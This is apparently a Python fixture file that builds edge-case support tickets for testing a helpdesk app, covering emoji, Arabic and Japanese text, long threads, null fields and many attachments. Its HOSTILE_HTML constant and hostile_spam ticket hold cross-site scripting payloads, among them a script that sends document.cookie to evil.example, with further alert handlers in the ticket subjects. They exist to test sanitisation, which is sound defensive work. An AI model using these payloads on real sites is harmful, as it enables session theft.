"""The tickets of the edge cases, in the format of a world file."""

from dataclasses import dataclass
from typing import Any

Written = dict[str, Any]

_TAG_NAMES = (
    *("accessibility", "beta", "callback", "complaint", "desktop", "documented", "duplicate"),
    *("education", "enterprise", "escalated", "feedback", "first contact", "follow-up", "legal"),
    *("low priority", "mobile", "needs approval", "partner", "praise", "press", "regular"),
    *("renewal", "reviewed", "second line", "survey sent", "training", "translation", "trial"),
    *("weekend", "wholesale"),
)
_COLORS = ("red", "orange", "yellow", "green", "blue", "purple")
TAGS = [
    {"id": 901 + number, "name": name, "color": _COLORS[number % len(_COLORS)]}
    for number, name in enumerate(_TAG_NAMES)
]
RENEE, NAMELESS, LAYLA, TARO, SPAMMER = 901, 902, 903, 904, 905
CONTACTS: list[Written] = [
    {"id": RENEE, "name": "Renée Müller-Østergård", "email": "renee@shop.example"},
    {"id": NAMELESS, "name": None, "email": "no-name@mail.example", "avatar_url": None},
    {"id": LAYLA, "name": "ليلى القاسم", "email": "layla@studio.example"},
    {"id": TARO, "name": "山田 太郎", "email": "taro@office.example"},
    {"id": SPAMMER, "name": "<b>Prize</b> Office", "email": "winner@lottery.example"},
]

EMOJI_SUBJECT = "🚀 Launch day! 👩🏽‍💻 says 🎉, but the app 💥 at step 3️⃣ 🇧🇪"
RIGHT_TO_LEFT_SUBJECT = "الطلب رقم ORD-1042 لم يصل بعد، أين هو؟ (שלום)"
HTML_SUBJECT = '<b>Bold</b> & <img src="x" onerror="alert(1)"> in a subject'
LITERAL_SUBJECT = """100% of user_name's "quotes" \\ and * stars"""
LONG_WORD = "Pneumonoultramicroscopicsilicovolcanoconiosis" * 5
HOSTILE_HTML = (
    "<p>Dear winner,</p>"
    "<script>document.title = 'owned'; fetch('https://evil.example/?' + document.cookie)</script>"
    '<img src="x" onerror="alert(\'image\')">'
    "<a href=\"javascript:alert('link')\" onclick=\"alert('click')\">Claim your prize</a>"
    '<iframe src="https://evil.example/frame"></iframe>'
    "<style>body { display: none }</style>"
    "<svg onload=\"alert('svg')\"></svg>"
    '<form action="https://evil.example/"><input name="card" autofocus onfocus="alert(3)"></form>'
    "<!-- an open comment, an open tag, and a body that never ends <p><div"
)


@dataclass(frozen=True, slots=True)
class Ids:
    """Ids of the workspace's records that the edge cases refer to."""

    agent: int
    colleague: int
    left: int
    channel: int


def _ticket(subject: str, created_at: str, ids: Ids, **fields: Any) -> Written:
    text = "Hello,\n\nplease have a look at this when you find the time.\n\nThanks"
    ticket = {
        "subject": subject,
        "created_at": created_at,
        "contact": RENEE,
        "channel": ids.channel,
        "tags": [901],
        "messages": [{"text": text}],
    }
    return ticket | fields


def _assigned(to: int, by: int, **fields: Any) -> Written:
    activities = [{"type": "assignee_changed", "user": by, "created_at": "+20m"}]
    return {"assignee": to, "activities": activities} | fields


def unassigned(ids: Ids) -> Written:
    return _ticket("Not assigned to anyone yet", "-5h", ids, assignee=None)


def untagged(ids: Ids) -> Written:
    return _ticket(
        "A ticket without tags",
        "-2d3h",
        ids,
        tags=[],
        **_assigned(ids.agent, ids.agent),
    )


def thirty_tags(ids: Ids) -> Written:
    return _ticket("Thirty tags on one ticket", "-9d", ids, tags=[tag["id"] for tag in TAGS])


def long_thread(ids: Ids) -> Written:
    messages = [_turn(ids, number) for number in range(300)]
    fields = _assigned(ids.agent, ids.agent, messages=messages)
    return _ticket("A thread of 300 messages", "-60d", ids, **fields)


def _turn(ids: Ids, number: int) -> Written:
    message: Written = {"text": f"Message {number + 1} of 300.", "created_at": f"+{number * 4}h"}
    if number % 10 == 9:
        return message | {"type": "note", "user": ids.colleague}
    return message | ({"user": ids.agent} if number % 2 else {})


def long_subject(ids: Ids) -> Written:
    words = "This subject has two hundred and fifty-five characters, so a list shows how it cuts. "
    return _ticket((words * 3)[:254] + "!", "-4d6h", ids)


def emoji_subject(ids: Ids) -> Written:
    messages = [{"text": "😀😃😄😁😆😅😂🤣🥲🥹😊😇🙂🙃😉😌 and so on"}]
    return _ticket(EMOJI_SUBJECT, "-1d2h", ids, messages=messages)


def right_to_left(ids: Ids) -> Written:
    messages = [{"text": "مرحبا،\n\nلم يصل طلبي رقم ORD-1042 حتى الآن.\n\nشكرا"}]  # noqa: RUF001 - Arabic is meant
    return _ticket(RIGHT_TO_LEFT_SUBJECT, "-3d1h", ids, contact=LAYLA, messages=messages)


def html_subject(ids: Ids) -> Written:
    return _ticket(HTML_SUBJECT, "-6d", ids)


def status_open(ids: Ids) -> Written:
    return _ticket("An open ticket", "-7h", ids, **_assigned(ids.agent, ids.agent))


def status_closed(ids: Ids) -> Written:
    messages = [
        {"text": "Hello,\n\nhow do I change my e-mail address?"},
        {
            "text": "Hello,\n\nunder Settings, Profile.",
            "user": ids.agent,
            "created_at": "+1h",
        },
    ]
    log = [
        {"type": "assignee_changed", "user": ids.agent, "created_at": "+20m"},
        {"type": "status_changed", "user": ids.agent, "created_at": "+61m"},
    ]
    fields = {
        "status": "closed",
        "assignee": ids.agent,
        "messages": messages,
        "activities": log,
    }
    return _ticket("A closed ticket", "-8d", ids, **fields)


def status_spam(ids: Ids) -> Written:
    messages = [{"text": "Buy now, pay never."}]
    log = [{"type": "status_changed", "user": ids.agent, "created_at": "+3h"}]
    fields = {"status": "spam", "contact": SPAMMER, "messages": messages, "activities": log}
    return _ticket("A spam ticket", "-5d", ids, tags=[], **fields)


def all_null(ids: Ids) -> Written:
    picture = {"name": "scan.png", "size": 48_213}
    messages = [{"body_html": "<p></p>", "attachments": [picture]}]
    log = [{"type": "status_changed", "user": None, "created_at": "+1m"}]
    fields = {"contact": NAMELESS, "summary": None, "messages": messages, "activities": log}
    return _ticket("Null in every field that may be", "-10h", ids, tags=[], **fields)


def assignee_left(ids: Ids) -> Written:
    return _ticket(
        "Assigned to a user who has left",
        "-230d",
        ids,
        **_assigned(ids.left, ids.left),
    )


def attachments(ids: Ids) -> Written:
    names = ["contract.pdf", "scan 1 (final).png", "Übersicht.xlsx", "backup.zip", "clip.mp4"]
    names += [f"photo-{number:02}.jpg" for number in range(1, 21)]
    files: list[Written] = [{"name": name} for name in names]
    files += [{"name": "empty.txt", "size": 0}, {"name": "huge.zip", "size": 26_214_400}]
    files += [{"name": f"{'very-' * 40}long-name.pdf"}, {"name": "no-extension"}]
    return _ticket(
        "Many attachments",
        "-12d",
        ids,
        messages=[{"text": "All here.", "attachments": files}],
    )


def hostile_spam(ids: Ids) -> Written:
    log = [{"type": "status_changed", "user": None, "created_at": "+1m"}]
    messages = [{"body_html": HOSTILE_HTML}]
    fields = {"status": "spam", "contact": SPAMMER, "messages": messages, "activities": log}
    return _ticket("<script>alert('subject')</script>You have won", "-2d", ids, tags=[], **fields)


def forwarded(ids: Ids) -> Written:
    quoted = "<p>Could you look into this?</p><blockquote><p>The parcel is lost.</p></blockquote>"
    messages = [
        {"text": "The parcel is lost."},
        {"body_html": quoted, "user": ids.agent, "is_forward": True, "created_at": "+2h"},
        {
            "text": "Carrier answers tomorrow.",
            "type": "note",
            "user": ids.agent,
            "created_at": "+3h",
        },
    ]
    return _ticket(
        "Forwarded to the carrier",
        "-30h",
        ids,
        **_assigned(ids.agent, ids.agent, messages=messages),
    )


def very_old(ids: Ids) -> Written:
    log = [{"type": "status_changed", "user": ids.left, "created_at": "+1d"}]
    fields = {"status": "closed", "activities": log}
    return _ticket("From another decade", "2009-02-13T23:31:30+00:00", ids, **fields)


def long_body(ids: Ids) -> Written:
    lines = (
        f"Line {number}: the quick brown fox jumps over the lazy dog." for number in range(1, 1801)
    )
    return _ticket("A very long message", "-11d", ids, messages=[{"text": "\n\n".join(lines)}])


def nameless_contact(ids: Ids) -> Written:
    return _ticket("From a contact without a name", "-26h", ids, contact=NAMELESS)


def twin(ids: Ids) -> Written:
    return _ticket("One of two at the same second", "-7d", ids)


def search_literals(ids: Ids) -> Written:
    messages = [{"text": "A discount of 50% on item_42 is 'not' \"shown\"; the path is C:\\temp."}]
    return _ticket(LITERAL_SUBJECT, "-13d", ids, messages=messages)


def foreign_names(ids: Ids) -> Written:
    messages = [{"text": "お世話になっております。注文番号1042の商品がまだ届いておりません。"}]
    return _ticket("注文が届きません", "-31h", ids, contact=TARO, messages=messages)


def long_word(ids: Ids) -> Written:
    return _ticket(LONG_WORD, "-14d", ids, messages=[{"text": LONG_WORD}])


def empty_subject(ids: Ids) -> Written:
    return _ticket("", "-15d", ids)


def reopened(ids: Ids) -> Written:
    messages = [
        {"text": "The export is empty."},
        {"text": "Please try again now.", "user": ids.agent, "created_at": "+2h"},
        {"text": "It is empty again.", "created_at": "+5h"},
    ]
    log = [
        {"type": "assignee_changed", "user": ids.colleague, "created_at": "+1h"},
        {"type": "status_changed", "user": ids.agent, "created_at": "+2h1m"},
        {"type": "status_changed", "user": None, "created_at": "+5h1s"},
    ]
    fields = {"assignee": ids.agent, "messages": messages, "activities": log}
    return _ticket("Closed, then reopened by a reply", "-3d", ids, **fields)
